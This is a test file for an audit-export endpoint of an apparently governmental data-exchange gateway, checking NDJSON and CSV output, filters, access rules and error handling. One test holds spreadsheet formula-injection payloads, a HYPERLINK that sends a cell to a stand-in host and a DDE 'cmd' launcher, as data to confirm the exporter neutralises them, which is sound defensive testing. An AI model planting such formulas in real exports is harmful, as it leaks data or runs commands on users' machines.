/**
 * CONTRACT §7 (v1.1) export: every matching record, oldest first, as NDJSON or CSV, with the listing's
 * filters and the listing's rule (auditors all, other agencies their own records only).
 */
import t from 'tap'
import { buildTestGateway, json, sharedSimulators, signedInject } from '../helpers/gateway.js'
import { logGateway } from '../helpers/txlog.js'
import { record } from '../helpers/records.js'
import { csvCell, csvRow, CSV_COLUMNS } from '../../gateway/builtins/audit-export.js'
import { recordPages } from '../../gateway/txlog/export-query.js'
import type { TransactionRecord } from '../../gateway/txlog/record.js'

const PERSON = '030075654294'
const ENTERPRISE = '/v1/business-registry/enterprises/2627349851'

/** Parses our CSV (RFC 4180 quoting) into rows of cells. */
function parseCsv (text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell); rows.push(row); row = []; cell = ''; i++
    } else cell += c
  }
  return rows
}

t.test('an export holds every matching record, oldest first, as the listing has them', async (t) => {
  await sharedSimulators(t)
  const { app } = await logGateway(t)
  const dng = (target: string) => signedInject(app, 'VN.LOC.DNG', 'GET', target, { purpose: 'public-service' })
  await dng(`/v1/population/citizens/${PERSON}`)
  await dng(`/v1/population/citizens/${PERSON}?fields=phone`)
  await dng('/v1/population/citizens/999999999999')
  await signedInject(app, 'VN.BHXH', 'GET', `/v1/population/citizens/${PERSON}`, { purpose: 'social-insurance' })
  await signedInject(app, 'VN.BHXH', 'GET', ENTERPRISE, { purpose: 'social-insurance' })
  const to = new Date(Date.now() + 1).toISOString()
  const audit = (target: string, agency = 'VN.TTCP') => signedInject(app, agency, 'GET', target)

  const listed = json(await audit(`/v1/audit/transactions?to=${to}`)).items as TransactionRecord[]
  t.equal(listed.length, 5)
  const nd = await audit(`/v1/audit/export?to=${to}`)
  t.equal(nd.statusCode, 200)
  t.match(nd.headers['content-type'], /^application\/x-ndjson/)
  t.match(nd.headers['content-disposition'], /^attachment; filename="ndx-audit-\d{8}T\d{6}Z-\d{8}T\d{6}Z\.ndjson"$/)
  t.equal(nd.headers['cache-control'], 'no-store')
  t.ok(nd.body.endsWith('\n'))
  t.same(nd.body.trimEnd().split('\n').map((l) => JSON.parse(l)), listed,
    'NDJSON: the records, byte for byte as listed')

  const csv = await audit(`/v1/audit/export?to=${to}&format=csv`)
  t.match(csv.headers['content-type'], /^text\/csv; charset=utf-8; header=present/)
  const rows = parseCsv(csv.body)
  t.same(rows[0], [...CSV_COLUMNS], 'a header row')
  t.equal(rows.length, 6, 'one row per record')
  const col = (name: string) => CSV_COLUMNS.indexOf(name as typeof CSV_COLUMNS[number])
  t.same(rows.slice(1).map((r) => [r[col('id')], r[col('client')], r[col('outcome')], r[col('code')]]),
    listed.map((r) => [r.id, r.client, r.outcome, r.code ?? '']))
  t.equal(rows[1]?.[col('fields')], listed[0]?.fields?.join(';'), 'fields as a ;-separated list')
  t.equal(rows[1]?.[col('status')], '200')

  const who = await audit(`/v1/audit/export?to=${to}&subject=${PERSON}&format=ndjson`)
  const attempts = who.body.trimEnd().split('\n').map((l) => JSON.parse(l) as TransactionRecord)
  t.same(attempts.map((r) => [r.client, r.outcome]),
    [['VN.LOC.DNG', 'ok'], ['VN.LOC.DNG', 'denied'], ['VN.BHXH', 'ok']],
    'who looked at this person: the refused attempt too')
  t.notMatch(who.body, new RegExp(PERSON), 'the subject is never in the records')

  const ok = await audit(`/v1/audit/export?to=${to}&outcome=ok&service=population&format=csv`)
  t.equal(parseCsv(ok.body).length, 3, 'filters apply: header and two rows')
  const none = await audit(`/v1/audit/export?to=${to}&client=VN.NOBODY&format=csv`)
  t.equal(none.body, CSV_COLUMNS.join(',') + '\r\n', 'nothing matching: the header alone')
  t.equal((await audit(`/v1/audit/export?to=${to}&client=VN.NOBODY`)).body, '', 'nothing matching: empty NDJSON')

  const exportsListed = await audit('/v1/audit/transactions?service=audit&operation=export')
  const exports = json(exportsListed).items as TransactionRecord[]
  t.equal(exports.length, 6, 'every export is itself a record (service audit, operation export)')
  t.equal(exports.filter((r) => r.subjectRef !== null).length, 1, 'a subject export is found by that subject too')
})

t.test('an agency without the auditor role exports only its own records', async (t) => {
  const { app } = await logGateway(t)
  await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/business-registry/enterprises/2627349851')
  await signedInject(app, 'VN.BHXH', 'GET', ENTERPRISE, { purpose: 'social-insurance' })
  const mine = await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/audit/export')
  const clients = mine.body.trimEnd().split('\n').map((l) => (JSON.parse(l) as TransactionRecord).client)
  t.same(clients, ['VN.LOC.DNG'])
  const other = await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/audit/export?client=VN.BHXH')
  t.equal(other.statusCode, 403)
  t.equal(json(other).code, 'access.denied')
})

t.test('the export refuses malformed queries with a problem, not a stream', async (t) => {
  const { app } = await logGateway(t)
  const q = async (target: string) => signedInject(app, 'VN.TTCP', 'GET', target)
  const bad = await q('/v1/audit/export?format=xlsx')
  t.equal(bad.statusCode, 400)
  t.match(bad.headers['content-type'], /application\/problem\+json/)
  t.match(json(bad), { code: 'request.invalid', errors: [{ name: 'format' }] })
  t.match(json(await q('/v1/audit/export?limit=10')), { errors: [{ name: 'limit' }] },
    'no limit: an export is everything')
  t.match(json(await q('/v1/audit/export?from=yesterday')), { errors: [{ name: 'from' }] })
  t.match(json(await q('/v1/audit/export?outcome=great')), { errors: [{ name: 'outcome' }] })
  t.equal((await app.inject({ method: 'GET', url: '/v1/audit/export' })).statusCode, 401, 'unsigned: refused')
})

t.test('without a transaction log the export says so', async (t) => {
  const { app } = await buildTestGateway(t)
  const res = await signedInject(app, 'VN.TTCP', 'GET', '/v1/audit/export?format=csv')
  t.equal(res.statusCode, 503)
  t.equal(json(res).code, 'gateway.unavailable')
})

t.test('a log database that does not answer is a 503 problem before any byte of export', async (t) => {
  const { app, log } = await logGateway(t, { database: 'pglite' })
  await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/business-registry/enterprises/2627349851')
  await log.sql.exec('ALTER TABLE ndx_tx RENAME TO ndx_tx_away')
  const res = await signedInject(app, 'VN.TTCP', 'GET', '/v1/audit/export?format=csv')
  await log.sql.exec('ALTER TABLE ndx_tx_away RENAME TO ndx_tx')
  t.equal(res.statusCode, 503)
  t.equal(json(res).code, 'gateway.unavailable')
  t.notMatch(res.body, /ndx_tx|relation/, 'no database internals in the reply')
})

t.test('a claimed agency id shaped like a formula cannot run in the auditor\'s spreadsheet', async (t) => {
  const formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
  const hostile = { ...record({ purpose: '+cmd|\' /C calc\'!A0' }), claimedClient: formula }
  const row = csvRow(hostile as TransactionRecord).trimEnd()
  const cells = parseCsv(row + '\r\n')[0] as string[]
  t.equal(cells[CSV_COLUMNS.indexOf('claimedClient')], '\'=HYPERLINK("http://x.example/?"&A1,"open")')
  t.equal(cells[CSV_COLUMNS.indexOf('purpose')], '\'+cmd|\' /C calc\'!A0')
  for (const cell of cells) t.notMatch(cell, /^[=+@\t\r]/, 'no cell starts a formula')
  t.equal(csvCell(-12.5), '-12.5', 'numbers stay numbers')
  t.equal(csvCell('-x'), '\'-x')
  t.equal(csvCell('a,"b"\nc'), '"a,""b""\nc"', 'RFC 4180 quoting')
  t.equal(csvCell(null), '')
  t.equal(csvCell(false), 'false')
})

t.test('an unreadable cursor from the reader stops the export instead of restarting it forever', async (t) => {
  const first = record()
  const reader = { list: async () => ({ items: [first], nextCursor: 'not-a-cursor' }) }
  const pages = recordPages(reader, { from: new Date(0), to: new Date() }, 1)
  t.same((await pages.next()).value, [first])
  await t.rejects(pages.next(), /unreadable cursor/)
})
